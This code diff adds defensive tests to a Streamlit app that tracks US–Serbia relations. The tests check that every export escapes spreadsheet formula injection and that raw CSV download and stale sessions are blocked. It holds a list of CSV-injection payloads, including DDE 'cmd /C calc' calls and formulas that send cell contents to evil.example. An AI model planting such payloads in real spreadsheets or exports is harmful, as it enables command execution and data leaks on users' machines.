@@ -134,6 +134,7 @@ REQUIRED = {
     ("server", "fileWatcherType"): "none",
     ("client", "showErrorDetails"): "none",
     ("client", "toolbarMode"): "viewer",
+    ("client", "disableDataExport"): True,
     ("browser", "gatherUsageStats"): False,
 }
 
@@ -341,3 +342,259 @@ def test_members_are_unpacked_whole_in_bounded_chunks(payload):
     chunks = list(_chunks_of(packed, module.decompressobj(-15), module.error))
     assert b"".join(chunks) == payload
     assert all(0 < len(c) <= 1 << 20 for c in chunks)
+
+
+# -- formula injection through every download (issue 13 item 6) --------------------------------------
+# OWASP's CSV-injection payloads and their disguises: leading blanks, tab, CR, LF, full-width and small
+# forms, invisible characters, DDE calls. Each must come out of every download starting with an apostrophe.
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/x","click me")',
+    '=1+HYPERLINK("http://evil.example/x","click me")',
+    '= HYPERLINK("http://evil.example/x")',
+    "=-cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    '="x"&HYPERLINK("http://evil.example/x")',
+    "=$A$1",
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '=IMAGE("http://evil.example/pixel.png")',
+    '=WEBSERVICE("http://evil.example/?leak="&A1)',
+    "   =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=HYPERLINK(\"http://evil.example\")",
+    "\tplain text after a tab",
+    "＝1+1",
+    "＋1+cmd|' /C calc'!A0",
+    "－1+1",
+    "＠SUM(1)",
+    "|cmd /C calc",
+    "\u200b=1+1",
+    "\u00a0=1+1",
+    "\u3000＝HYPERLINK(\"http://evil.example\")",
+    "﹦1+1",
+]
+# What a download's cell may not start with: a trigger, or a blank or invisible character before one.
+TRIGGERS = set("=+-@|＝＋－＠｜﹦﹢﹣﹫")
+
+
+def _evaluable(text: str) -> bool:
+    return text[:1] in TRIGGERS or (text[:1].isspace() or text[:1] in "\u200b\ufeff") and text.strip()[:1] != ""
+
+
+def test_the_payload_list_is_long_and_every_payload_is_refused_by_the_test_itself():
+    assert len(PAYLOADS) >= 25 and len(set(PAYLOADS)) == len(PAYLOADS)
+    assert all(_evaluable(p) for p in PAYLOADS)                     # the check below can fail
+    assert not any(_evaluable("'" + p) for p in PAYLOADS)
+
+
+@pytest.fixture
+def payload_db(tmp_path, monkeypatch):
+    """A database whose text columns hold every payload (straight in, as an old upload could have)."""
+    from dialogue import config, db
+    from dialogue.notes import add_note
+    from tests.conftest import ANALYST, put_rows
+
+    path = tmp_path / "payloads.duckdb"
+    con = db.connect(path)
+    put_rows(con, "exercises", [
+        dict(name=p, start_date=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}", end_date=None, status="held",
+             format="bilateral", us_participation="yes", location=p, participants=p, source=p, note=p)
+        for i, p in enumerate(PAYLOADS)])
+    put_rows(con, "events", [dict(date=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}", kind="context", title=p,
+                                  area="political", parties=p, source=p, note=p) for i, p in enumerate(PAYLOADS)])
+    put_rows(con, "agreements", [dict(title=p, date_signed=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}",
+                                      category="defence", area="security", status="signed", us_party=p,
+                                      serbian_party=p, source=p, note=p) for i, p in enumerate(PAYLOADS)])
+    put_rows(con, "trade", [dict(reporter="US Census", year=2024, month=1 + i % 12, product_code=str(i),
+                                 product=p, flow="us_to_serbia", value=1e6, currency="USD", source=p, note=p)
+                            for i, p in enumerate(PAYLOADS)])
+    for p in PAYLOADS:
+        add_note(con, ANALYST, "joint-exercises", p, date(2025, 8, 1))
+    db.set_meta(con, "workspace", "reference")
+    con.close()
+    monkeypatch.delenv("DIALOGUE_DB", raising=False)
+    monkeypatch.setenv("DIALOGUE_USERS", str(tmp_path / "no-users.toml"))
+    monkeypatch.setattr(config, "DEFAULT_DB", path)
+    monkeypatch.setattr(config, "DEMO_DB", tmp_path / "unused-demo.duckdb")
+    yield path
+    db.close_all()
+
+
+def _download(path_kind: str, db_file: Path, out_dir: Path) -> tuple[str, bytes]:
+    """One download of the events and the whole store, made the way the user makes it."""
+    from dialogue import db, views
+    from dialogue.cli import main
+
+    if path_kind.startswith("cli-"):
+        out = out_dir / f"events.{path_kind[4:]}"
+        assert main(["--db", str(db_file), "export", "events", "--out", str(out)]) == 0
+        return out.suffix[1:], out.read_bytes()
+    con = db.connect(db_file)
+    try:
+        if path_kind.startswith("export_bytes-"):
+            fmt = path_kind.split("-")[1]
+            return fmt, views.export_bytes(views.browse(con, "events"), fmt, "events")
+        import io
+
+        from dialogue.reports import content as report_content
+        from dialogue.reports.xlsx import workbook
+
+        buf = io.BytesIO()
+        workbook(report_content.gather(con, date(2026, 6, 30), None)).save(buf)
+        return "xlsx", buf.getvalue()
+    finally:
+        con.close()
+
+
+def _cells(fmt: str, data: bytes) -> list[str]:
+    """Every text cell of a download; for XLSX also that no cell is a formula."""
+    import csv
+    import io
+
+    if fmt == "csv":
+        return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
+    import openpyxl
+
+    out = []
+    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    out.append(cell.value)
+    return out
+
+
+@pytest.mark.parametrize("path_kind", ["cli-csv", "cli-xlsx", "export_bytes-csv", "export_bytes-xlsx", "annex-xlsx"])
+def test_no_payload_reaches_a_download_in_a_form_a_spreadsheet_evaluates(payload_db, tmp_path, path_kind):
+    fmt, data = _download(path_kind, payload_db, tmp_path)
+    cells = _cells(fmt, data)
+    assert not [c for c in cells if _evaluable(c)], [c for c in cells if _evaluable(c)][:5]
+    # each payload is there, exactly as uploaded behind one apostrophe (XML reads a lone CR back as LF)
+    expected = {"'" + (p.replace("\r", "\n") if fmt == "xlsx" else p) for p in PAYLOADS}
+    assert expected <= set(cells), sorted(expected - set(cells))[:5]
+
+
+def _hide_export_setting(value):
+    from streamlit import config as st_config
+
+    st_config.set_option("client.disableDataExport", value)
+
+
+@pytest.mark.parametrize("page", ALL_PAGES)
+def test_no_table_offers_streamlits_raw_csv_download(payload_db, page):
+    """st.dataframe's toolbar "Download as CSV" writes cells raw: it is off on every page, from the first run,
+    even on a server started without our config.toml (simulated by turning the setting off first)."""
+    from streamlit.proto.NewSession_pb2 import Config
+    from streamlit.runtime.app_session import _populate_config_msg
+    from streamlit.testing.v1 import AppTest
+
+    _hide_export_setting(False)
+    try:
+        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
+        at.session_state["as_of"] = date(2026, 6, 30)
+        at.run()
+        if page != "overview":
+            at.switch_page(f"pages/{page}.py")
+            at.run()
+        assert not at.exception, [e.value for e in at.exception]
+        sent = Config()
+        _populate_config_msg(sent)              # what the server tells the browser at every run
+        assert sent.disable_data_export is True
+        if page == "security":                  # the payloads are in its tables, shown as text
+            at.session_state["sec_exercises_table"] = at.session_state["sec_agreements_table"] = True
+            at.run()
+            shown = {v for df in at.dataframe for v in df.value.astype(str).to_numpy().ravel()}
+            assert set(PAYLOADS) & shown
+    finally:
+        from streamlit import config as st_config
+
+        st_config.get_config_options(force_reparse=True)
+
+
+def test_the_config_file_turns_the_raw_download_off_from_the_first_run(monkeypatch):
+    from streamlit import config as st_config
+
+    monkeypatch.chdir(ROOT)
+    st_config.get_config_options(force_reparse=True, options_from_flags={})
+    try:
+        assert st_config.get_option("client.disableDataExport") is True
+    finally:
+        st_config.get_config_options(force_reparse=True)
+
+
+# -- access: a signed-out visitor opens nothing, a reset credential ends the session (issue 13 items 7, 9) ----
+@pytest.fixture
+def signed_out(tmp_path, monkeypatch):
+    """Users configured, and neither workspace's database made yet: what a visitor can make the server do."""
+    from dialogue import auth, config, db
+    from tests.conftest import ADMIN
+
+    monkeypatch.setattr(auth, "BCRYPT_ROUNDS", 4)
+    monkeypatch.delenv("DIALOGUE_DB", raising=False)
+    monkeypatch.setenv("DIALOGUE_USERS", str(tmp_path / "users.toml"))
+    monkeypatch.setattr(config, "DEFAULT_DB", tmp_path / "dialogue.duckdb")
+    monkeypatch.setattr(config, "DEMO_DB", tmp_path / "demo.duckdb")
+    from dialogue import audit
+    auth.UserStore().add(audit.PendingLog(tmp_path / "elsewhere.duckdb"), ADMIN, "ana1", "analyst", "correct horse")
+    yield tmp_path
+    db.close_all()
+
+
+def _databases(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if ".duckdb" in p.name and "audit-pending" not in p.name)
+
+
+def test_a_signed_out_visitor_choosing_demo_data_creates_and_opens_no_database(signed_out):
+    from streamlit.testing.v1 import AppTest
+
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
+    at.run()
+    assert [t.label for t in at.text_input] == ["User name", "Password"]
+    at.radio(key="workspace").set_value("demo").run()
+    at.text_input(key="_dialogue_sign_in_name").set_value("ana1")
+    at.text_input(key="_dialogue_sign_in_password").set_value("wrong horse")
+    at.button[0].click().run()                       # a failed attempt is audited, in no new database
+    assert not at.exception, [e.value for e in at.exception]
+    assert [re.sub(r"\\(.)", r"\1", e.value) for e in at.error] == ["Wrong user name or password."]
+    assert _databases(signed_out) == []
+
+
+def test_a_session_ends_when_the_command_line_removes_and_re_adds_its_user(signed_out):
+    """Signed in as ana1; `users remove ana1` and `users add ana1` with a new password, from another process:
+    the old browser session ends at its next run, the Data page included."""
+    import subprocess
+    import sys
+
+    from streamlit.testing.v1 import AppTest
+    from pages.ui import auth_ui
+
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
+    at.run()
+    at.text_input(key="_dialogue_sign_in_name").set_value("ana1")
+    at.text_input(key="_dialogue_sign_in_password").set_value("correct horse")
+    at.button[0].click().run()
+    assert not at.exception, [e.value for e in at.exception]
+    token = at.session_state[auth_ui.TOKEN_KEY]
+    at.switch_page("pages/data.py")
+    at.run()
+    assert at.title[0].value == "Data"
+    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "DIALOGUE_USERS": str(signed_out / "users.toml")}
+    cli = [sys.executable, "-m", "dialogue", "--db", str(signed_out / "dialogue.duckdb"), "users"]
+    for args, stdin in ((["remove", "ana1"], ""), (["add", "ana1", "--role", "analyst"], "battery staple\n" * 2)):
+        done = subprocess.run(cli + args, input=stdin, text=True, capture_output=True, env=env, timeout=120)
+        assert done.returncode == 0, done.stderr
+    # AppTest reruns only the page after the first run: the next run is a fresh AppTest with the same token
+    again = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
+    again.session_state[auth_ui.TOKEN_KEY] = token
+    again.run()
+    assert not again.exception, [e.value for e in again.exception]
+    assert [t.label for t in again.text_input] == ["User name", "Password"]
+    assert [i.value for i in again.info] == ["Your session has ended (timed out or changed). Please sign in again."]
+    with pytest.raises(ValueError, match="Could not find a navigation page"):
+        again.switch_page("pages/data.py")
